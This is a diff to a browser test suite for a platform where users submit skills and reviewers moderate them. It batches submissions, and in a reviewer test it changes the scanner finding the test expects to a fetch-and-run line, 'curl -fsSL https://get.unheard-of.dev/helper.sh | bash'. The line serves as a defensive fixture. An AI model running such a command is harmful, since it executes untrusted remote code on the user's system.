@@ -1,14 +1,13 @@
 """The pages in use, in a real browser, against the running platform."""
 
 import re
-from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 from playwright.sync_api import expect
 
 from tests.support.browser import browser as open_browser
 from tests.support.browser_tab import LIVE, Tab, sign_in
-from tests.support.demo import SETUP, AdminSession, fill_github, skill_md, submit_repo, upload, wait_until_idle
+from tests.support.demo import SETUP, AdminSession, fill_github, skill_md, upload, wait_until_idle
 from tests.support.platform import Platform
 from tests.support.stub_github import StubGitHub
 
@@ -54,8 +53,10 @@ def test_the_first_paint_is_right_without_javascript_with_0_1_and_300_submission
         submitted = 0
         for n in (0, 1, 300):
             names = [f"skill-{k}" for k in range(submitted, n)]
-            with ThreadPoolExecutor(8) as pool:
-                list(pool.map(lambda name: submit_repo(platform, "https://github.com/o/r", f"skills/{name}"), names))
+            for some in (names[k : k + 50] for k in range(0, len(names), 50)):
+                skills = [{"name": name, "path": f"skills/{name}"} for name in some]
+                body = {"repoUrl": "https://github.com/o/r", "skills": skills}
+                assert platform.json("POST", "/api/v1/submissions", body)[0] == 201
             submitted = n
             page.goto(f"{platform.url}/queue")
             shown = {card: page.inner_text(f'[data-figure="{card}"]') for card in ("total", "active", "published")}
@@ -210,8 +211,8 @@ def test_a_reviewer_decides_and_the_audit_log_shows_it(tab, platform):
     wait_until_idle(platform)
     sign_in(tab, platform)
     tab.goto(f"{platform.url}/admin?review={held['id']}")
-    expect(tab.locator(".finding")).to_contain_text("scripts/setup.sh:5")
-    expect(tab.locator(".finding .hit")).to_contain_text("curl -fsSL https://get.example.net/helper.sh | bash")
+    expect(tab.locator(".finding").first).to_contain_text("scripts/setup.sh:5")
+    expect(tab.locator(".finding .hit").first).to_contain_text("curl -fsSL https://get.unheard-of.dev/helper.sh | bash")
     tab.click("summary:text('Reject')")
     tab.get_by_role("button", name="Reject reviewed").click()  # the browser asks for the reason first
     expect(tab.locator("#why-reject")).to_be_focused()
